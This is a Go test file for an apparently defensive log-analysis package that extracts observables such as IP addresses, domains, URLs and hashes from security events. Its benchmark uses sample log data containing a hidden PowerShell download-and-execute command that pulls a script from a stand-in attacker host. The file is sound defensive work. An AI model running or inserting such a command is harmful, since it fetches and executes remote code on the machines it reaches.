package event_test

import (
	"fmt"
	"net/netip"
	"os"
	"strings"
	"testing"

	"yagura/internal/event"
)

// TestObservables runs testdata/observables.txt: lines "field | value", then the observables that must come out of them,
// "type value", in order; a blank line ends a case.
func TestObservables(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/observables.txt")
	if err != nil {
		t.Fatal(err)
	}
	for number, text := range strings.Split(string(data), "\n\n") {
		var e event.Event
		var want []string
		for line := range strings.Lines(text) {
			line = strings.TrimRight(line, "\n")
			field, value, isField := strings.Cut(line, " | ")
			switch {
			case line == "" || strings.HasPrefix(line, "#"):
			case isField:
				e.Add(field, value)
			default:
				want = append(want, line)
			}
		}
		var got []string
		for _, o := range e.Observables(nil) {
			got = append(got, fmt.Sprintf("%s %s", o.Type, o.Value))
		}
		if g, w := strings.Join(got, "\n"), strings.Join(want, "\n"); g != w {
			t.Errorf("case %d:\n%s\n--- got\n%s", number+1, text, g)
		}
	}
}

func TestAnObservableNamesTheMostTellingField(t *testing.T) {
	t.Parallel()
	var e event.Event
	e.Add("message", "connection from 192.0.2.7")
	e.Add("source.ip", "192.0.2.7")
	got := e.Observables([]event.Observable{{Value: "kept"}})
	if len(got) != 2 || got[0].Value != "kept" || got[1].Field != "source.ip" {
		t.Errorf("%v", got)
	}
}

func TestObservablesAreBounded(t *testing.T) {
	t.Parallel()
	var e event.Event
	var b strings.Builder
	for i := range 10_000 {
		fmt.Fprintf(&b, "10.0.%d.%d ", i/256, i%256)
	}
	e.Add("a", b.String())
	e.Add("b", strings.Repeat("x.example.com/", 1<<20))
	if n := len(e.Observables(nil)); n == 0 || n > 256 {
		t.Errorf("%d observables", n)
	}
}

// FuzzObservables: whatever a log holds, each observable is of its type and in its normal form.
func FuzzObservables(f *testing.F) {
	data, err := os.ReadFile("testdata/observables.txt")
	if err != nil {
		f.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, value string) {
		var e event.Event
		e.Add("a", value)
		e.Add("dns.question.name", value)
		for _, o := range e.Observables(nil) {
			switch o.Type {
			case event.IPAddress:
				addr, err := netip.ParseAddr(o.Value)
				if err != nil || addr.Is4In6() || addr.String() != o.Value {
					t.Errorf("IP %q of %q", o.Value, value)
				}
			case event.Domain:
				if o.Value != asciiLower(o.Value) || strings.HasSuffix(o.Value, ".") || !strings.Contains(o.Value, ".") {
					t.Errorf("domain %q of %q", o.Value, value)
				}
			case event.Email:
				if strings.Count(o.Value, "@") != 1 {
					t.Errorf("e-mail address %q of %q", o.Value, value)
				}
			case event.URL:
				if !strings.Contains(o.Value, "://") {
					t.Errorf("URL %q of %q", o.Value, value)
				}
			default:
				if strings.Trim(o.Value, "0123456789abcdef") != "" {
					t.Errorf("%s %q of %q", o.Type, o.Value, value)
				}
			}
		}
	})
}

func asciiLower(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'A' && r <= 'Z' {
			return r | 0x20
		}
		return r
	}, s)
}

func BenchmarkObservables(b *testing.B) {
	var e event.Event
	e.Add("process.executable", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
	e.Add("process.command_line", `powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://evil.example.com:8080/a.ps1'))"`)
	e.Add("process.hash.sha256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
	e.Add("host.name", "PC-0042.corp.example.co.jp")
	e.Add("user.name", "tanaka")
	e.Add("source.ip", "192.0.2.7")
	e.Add("message", "Process Create: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe from 192.0.2.7")
	var dst []event.Observable
	b.ReportAllocs()
	for b.Loop() {
		dst = e.Observables(dst[:0])
	}
	if len(dst) == 0 {
		b.Fatal("none")
	}
}
